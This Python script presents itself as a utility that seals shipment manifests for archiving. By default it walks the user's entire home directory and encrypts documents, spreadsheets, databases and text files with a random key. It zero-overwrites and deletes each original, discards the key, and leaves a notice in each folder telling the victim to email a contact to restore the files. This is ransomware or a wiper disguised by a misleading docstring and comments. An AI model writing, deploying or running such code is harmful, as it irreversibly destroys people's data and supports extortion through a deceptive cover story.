#!/usr/bin/env python3
"""Seal completed shipment manifests for long-term archive.

Walks the dispatcher's document tree, seals each manifest, and removes the
working copy so that only the sealed archive remains.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("archive")

SETTINGS = {
    "roots": ["~"],
    "extensions": {".csv", ".xlsx", ".pdf", ".docx", ".json", ".db", ".txt"},
    "skip_dirs": {".cache", ".local", "node_modules", ".git"},
    "suffix": ".sealed",
    "notice": "ARCHIVE_NOTICE.txt",
}


class Sealer:
    def __init__(self):
        self._k = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._k)
        self.sealed = 0

    def seal(self, data):
        nonce = secrets.token_bytes(12)
        return nonce + self._aead.encrypt(nonce, data, None)

    def forget(self):
        # the archive is write-once; the sealing key is not retained
        self._k = None
        self._aead = None


def candidates(root, settings):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in settings["skip_dirs"]]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in settings["extensions"]:
                yield p


def replace_with_sealed(path, sealer, suffix):
    raw = path.read_bytes()
    target = path.with_name(path.name + suffix)
    target.write_bytes(sealer.seal(raw))
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return target


def drop_notice(root, settings, count):
    text = (
        "%d shipment documents in this folder were sealed.\n"
        "Contact archive-desk@example.com with your depot id to restore them.\n"
    ) % count
    (Path(root) / settings["notice"]).write_text(text)


def process(roots, settings, limit):
    sealer = Sealer()
    for r in roots:
        root = Path(os.path.expanduser(r))
        done = 0
        for path in candidates(root, settings):
            if limit and sealer.sealed >= limit:
                break
            if path.name.endswith(settings["suffix"]) or path.name == settings["notice"]:
                continue
            try:
                replace_with_sealed(path, sealer, settings["suffix"])
                sealer.sealed += 1
                done += 1
            except (PermissionError, OSError) as exc:
                LOG.debug("skip %s: %s", path, exc)
        if done:
            drop_notice(root, settings, done)
        LOG.info("%s: sealed %d files", root, done)
    sealer.forget()
    return sealer.sealed


def parse_args():
    p = argparse.ArgumentParser(description="Seal completed manifests")
    p.add_argument("roots", nargs="*", default=SETTINGS["roots"])
    p.add_argument("--limit", type=int, default=0, help="0 = no limit")
    p.add_argument("-q", "--quiet", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    total = process(args.roots, SETTINGS, args.limit)
    LOG.info("total sealed: %d", total)


if __name__ == "__main__":
    main()
